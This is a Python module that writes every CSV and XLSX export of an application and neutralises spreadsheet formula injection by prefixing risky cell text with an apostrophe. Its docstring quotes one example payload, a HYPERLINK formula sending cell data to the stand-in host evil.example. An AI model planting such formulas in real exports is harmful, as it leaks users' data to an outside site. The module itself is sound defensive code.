"""The one writer of spreadsheets and CSV files: every export goes through here.

A cell whose text begins with = + - @, a tab or a carriage return is a formula (or becomes one)
when Excel or LibreOffice opens the file: `=HYPERLINK("http://evil.example/?"&A1,"click")` in
an organization's name would send the data to another site. As OWASP recommends ("CSV
Injection"), such text is written with a leading apostrophe, so it shows as the text it is;
in XLSX it is also stored as a string cell, never a formula. Numbers, dates and Decimals pass
unchanged (a negative amount stays a number).

API:
- `neutralise(value)`: the value safe for a cell (text changed only when it is dangerous);
- `CsvWriter(binary_stream)`: `.writerow(values)`; UTF-8 with a BOM (Excel reads the Chinese
  right); None → "", dates ISO 8601; `.close()` flushes and leaves the stream open;
- `append_row(sheet, values)`: one row on an openpyxl sheet (normal or write-only); values
  may be WriteOnlyCell objects (their value is neutralised too);
- `xlsx_cell(sheet, value, number_format=None, font=None)`: a formatted cell for a
  write-only sheet.
"""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """Text that a spreadsheet would run as a formula, prefixed with an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class CsvWriter:
    """CSV rows to a binary stream, every cell neutralised."""

    def __init__(self, stream):
        self._text = io.TextIOWrapper(stream, encoding="utf-8-sig", newline="")
        self._writer = csv.writer(self._text)

    def writerow(self, values):
        self._writer.writerow([_csv_text(v) for v in values])

    def close(self):
        self._text.flush()
        self._text.detach()  # the stream stays open for the caller


def _csv_text(value):
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, int | float | Decimal):
        return value  # a number we computed, never text someone typed
    return neutralise(str(value))


def csv_bytes(rows):
    """A whole (small) CSV file as bytes."""
    out = io.BytesIO()
    writer = CsvWriter(out)
    for row in rows:
        writer.writerow(row)
    writer.close()
    return out.getvalue()


def _xlsx_value(value):
    if isinstance(value, Cell):
        if isinstance(value.value, str) and value.value.startswith(FORMULA_STARTS):
            value.value = neutralise(value.value)
            value.data_type = "s"
        return value
    if hasattr(value, "__html__") or type(value).__name__ == "LazyString":
        value = str(value)
    return neutralise(value)


def append_row(sheet, values):
    """Append one row of values to an openpyxl worksheet, text neutralised."""
    sheet.append([_xlsx_value(v) for v in values])


def xlsx_cell(sheet, value, number_format=None, font=None):
    """A write-only cell with a number format and font; its text neutralised."""
    made = WriteOnlyCell(sheet, neutralise(value))
    if number_format:
        made.number_format = number_format
    if font:
        made.font = font
    return made
